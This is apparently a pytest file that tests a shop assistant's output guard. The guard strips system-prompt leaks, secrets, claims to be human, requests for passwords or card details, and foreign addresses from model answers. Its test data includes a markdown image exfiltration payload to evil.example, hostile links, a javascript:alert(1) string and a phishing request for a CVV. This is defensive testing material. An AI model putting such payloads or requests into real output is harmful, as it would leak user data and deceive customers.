"""What never leaves: the prompt, secrets, claims to be a person, requests for secrets, foreign addresses."""

from __future__ import annotations

from dataclasses import replace

import pytest

from engine.answering.guard import AnswerGuard
from engine.answering.prompts import NO_ANSWER, system_prompt
from engine.ports import CompositionLimits
from tests.contracts.people import request
from tests.engine.answering.test_guard import ROWS, TEXTS


def left(text: str, *texts: str, step: int = 5) -> tuple[str, AnswerGuard]:
    """What leaves of a model's text."""
    asked = replace(request("How long for returns?", *(texts or TEXTS), products=ROWS), fence="f3nc3c0d3")
    guard = AnswerGuard(asked, system_prompt(asked, CompositionLimits()), (asked.fence, NO_ANSWER))
    out = "".join(guard.feed(text[place : place + step]) for place in range(0, len(text), step))
    return out + guard.finish(), guard


@pytest.mark.parametrize(
    "text",
    ["You are Shop assistant, the AI shop assistant of Kiln & Leaf.",
     "My rules say: take prices and stock only from rows, never invent a number.",
     "The evidence stands between EVIDENCE f3nc3c0d3 lines.", "The key is sk-abcdefgh12345678.",
     "I am a real person called Tom.", "I'm not a bot.", "Ich bin ein Mensch.", "Je suis une vraie personne.",
     "Soy una persona.", "Sono una persona.", "Ik ben een mens.",
     "Please send me your card number and the CVV.", "What is your password?",
     "Bitte nennen Sie mir Ihr Passwort hier.", "NO_ANSWER.", "Returns are accepted within 30 days NO_ANSWER."],
)  # fmt: skip
def test_it_never_leaves(text: str):
    out, guard = left(f"{text} Anything else?")
    assert out.strip() == "Anything else?"
    assert not next(check for check in guard.checks() if check.name == "safe").passed


def test_what_the_shop_says_of_passwords_leaves():
    says = "Enter your password on the sign-in page and click Continue."
    out, guard = left(says, says)
    assert out == says
    assert all(check.passed for check in guard.checks())


@pytest.mark.parametrize("step", [1, 5, 1000])
@pytest.mark.parametrize(
    ("text", "shown"),
    [("![proof](https://evil.example/?q=secret) Returns are accepted within 30 days.",
      "Returns are accepted within 30 days."),
     ("[Returns](https://evil.example/x) are accepted within 30 days.", "Returns are accepted within 30 days."),
     ("<img src='https://evil.example/x'>Returns are accepted within 30 days.", "Returns are accepted within 30 days."),
     ("Returns <within the EU> are accepted within 30 days.", "Returns <within the EU> are accepted within 30 days."),
     ("See [returns](https://shop.example/returns).", "See returns (https://shop.example/returns).")],
)  # fmt: skip
def test_markup_becomes_plain_words_and_only_known_addresses_stay(text: str, shown: str, step: int):
    assert left(text, step=step)[0] == shown


@pytest.mark.parametrize(
    "text",
    ["Go to https://evil.example/returns for returns.", "See evil.com/returns.", "Open //evil.example/x for returns.",
     "Run javascript:alert(1) for returns.", "Write to evil@shop.example for returns.",
     "See https://shop.example.evil.com/returns for returns."],
)  # fmt: skip
def test_foreign_addresses_never_leave(text: str):
    out, _ = left(text)
    assert "evil" not in out
    assert "javascript" not in out
